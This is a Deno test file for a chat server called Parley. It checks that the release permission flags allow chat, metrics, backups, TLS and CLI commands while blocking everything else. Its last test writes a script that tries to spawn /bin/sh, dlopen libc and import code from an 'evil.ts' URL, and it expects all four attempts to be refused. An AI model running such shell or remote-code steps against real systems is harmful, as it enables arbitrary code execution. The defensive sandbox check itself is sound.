import assert from "node:assert/strict";
import { RUN_FLAGS } from "../../scripts/release/run.ts";
import { createServer, makeAdmin, register } from "../helpers/account.ts";
import { ownPort } from "../helpers/ports.ts";
import { connect, sendAll } from "../helpers/sender.ts";
import { BUILT, ROOT, spawnServer, TestServer } from "../helpers/server_process.ts";
import { until } from "../helpers/until.ts";

/** With the permissions of the compiled program, but from source. */
const SOURCE = {
  cwd: ROOT,
  args: [...RUN_FLAGS, "--node-modules-dir=manual", "tests/helpers/source_program.ts"],
};
/** How Deno and its Node say that something is not allowed. */
const LACKING = /NotCapable|Requires \w+ access|ERR_ACCESS_DENIED/;

/** Runs Deno with exactly what the program may do. */
async function runWith(args: string[]): Promise<string> {
  const { success, stdout, stderr } = await new Deno.Command(Deno.execPath(), {
    args: ["run", ...args],
    cwd: ROOT,
    env: { NO_COLOR: "1" },
    stdin: "null",
  }).output();
  const text = [stdout, stderr].map((bytes) => new TextDecoder().decode(bytes)).join("");
  assert.doesNotMatch(text, LACKING);
  assert.ok(success, `${args.join(" ")}: ${text}`);
  return text;
}

const parley = (...args: string[]) => runWith([...BUILT.args, ...args]);

Deno.test("[HARD-16] with the permissions of the compiled program nothing is missing: chat, relay, metrics, backups, every command", async () => {
  const env = {
    PARLEY_BACKUP_EVERY: "1h",
    PARLEY_METRICS_TOKEN: "let me read",
    PARLEY_RELAY: "on",
    PARLEY_RELAY_PORT: String(ownPort()),
  };
  await using server = await TestServer.start({ env });
  const { dataDir, url } = server;
  const scratch = await Deno.makeTempDir({ prefix: "parley-test-" });
  const ada = await register(url, "ada");
  await makeAdmin(server, ada);
  const { channel } = await createServer(ada, "Club");
  const socket = await connect(url, ada);
  await sendAll(socket, channel.id, ["one", "two"]);
  socket.disconnect();
  const login = await fetch(`${url}/api/auth/login`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ username: "ada", password: ada.password }),
  });
  assert.equal((await login.body?.cancel(), login.status), 200);
  const page = await fetch(`${url}/login`);
  assert.match(await page.text(), /Parley/);
  const headers = { authorization: "Bearer let me read" };
  const metrics = await fetch(`${url}/metrics`, { headers });
  assert.match(await metrics.text(), /process_resident_memory/);
  const { storage } = await ada.call<{ storage: { disk: unknown } }>("GET", "/admin/status");
  assert.ok(storage.disk, "how full the disk is");

  // A backup in the list is still in progress until the state says that none is.
  const made = async () => {
    type Made = { state: string; backups: { sealed: boolean }[] };
    const { state, backups } = await ada.call<Made>("GET", "/admin/backups");
    return state === "idle" ? backups : [];
  };
  await until("the schedule's backup", async () => (await made()).length === 1)
    .catch((error) => assert.fail(`${error}\n${server.output().join("\n")}`));
  const order = { password: ada.password, passphrase: "five words nobody guesses" };
  await ada.call("POST", "/admin/backups", order);
  await until("an admin's backup", async () => (await made()).some(({ sealed }) => sealed));

  const data = ["--data", dataDir];
  assert.match(await parley("user", "list", ...data), /ada@example\.org/);
  await parley("backup", `${scratch}/a.tar`, ...data);
  await parley("check", ...data);
  await parley("check", `${scratch}/a.tar`, ...data);
  await parley("export", "user", "ada", "--out", `${scratch}/ada.json`, ...data);
  await parley("restore", `${scratch}/a.tar`, "--data", `${scratch}/again`);
  await parley("user", "list", "--data", `${scratch}/again`);
  await parley("config");
  await parley("version");
  assert.equal(await server.end("SIGTERM"), 0);
  assert.doesNotMatch(server.output().join("\n"), LACKING);
  await Deno.remove(scratch, { recursive: true });
});

Deno.test("[HARD-16] with these permissions it serves TLS of its own, and is found by its name", async () => {
  const dataDir = await Deno.makeTempDir({ prefix: "parley-test-" });
  const spawned = spawnServer({ dataDir, program: SOURCE, env: { PARLEY_TLS: "lan" } });
  const url = await spawned.ready;
  const caCerts = [await Deno.readTextFile(`${dataDir}/tls/ca.pem`)];
  using client = Deno.createHttpClient({ caCerts });
  const response = await fetch(`${url}/login`, { client });
  assert.match(await response.text(), /Parley/);
  assert.match(await parley("tls", "--data", dataDir), /Fingerprint/);
  spawned.kill("SIGTERM");
  assert.equal(await spawned.exited, 0);
  assert.doesNotMatch(spawned.log.join("\n"), LACKING);
  await Deno.remove(dataDir, { recursive: true });

  const said = await runWith([
    ...RUN_FLAGS,
    "--node-modules-dir=manual",
    "tests/cli/announce_once.ts",
  ]);
  assert.equal(said, "announced\n");
});

Deno.test({
  name:
    "[HARD-16] with these permissions no other program is started, no library and no foreign code loaded",
  ignore: Deno.build.os !== "linux",
  async fn() {
    const script = await Deno.makeTempFile({ suffix: ".ts" });
    await Deno.writeTextFile(
      script,
      `import { openLibc } from "${new URL("../../server/host/libc.ts", import.meta.url)}";
      // The program does this before anything else.
      openLibc();
      const tries = {
        shell: () => new Deno.Command("/bin/sh", { args: ["-c", "true"] }).output(),
        named: () => new Deno.Command("sh", { args: ["-c", "true"] }).output(),
        library: () => Deno.dlopen("/lib/x86_64-linux-gnu/libc.so.6", {}),
        code: () => import("http://127.0.0.1:1/evil.ts"),
      };
      for (const [name, attempt] of Object.entries(tries)) {
        const what = await Promise.resolve().then(attempt).then(() => "done", (e) => e);
        const refused = /NotCapable|Requires/.test(String(what));
        console.log(name, refused ? "refused" : String(what));
      }`,
    );
    const { stdout } = await new Deno.Command(Deno.execPath(), {
      args: ["run", ...RUN_FLAGS, "--no-config", script],
      stdin: "null",
    }).output();
    const lines = new TextDecoder().decode(stdout).trim().split("\n");
    assert.deepEqual(
      lines,
      ["shell", "named", "library", "code"].map((n) => `${n} refused`),
    );
    await Deno.remove(script);
  },
});
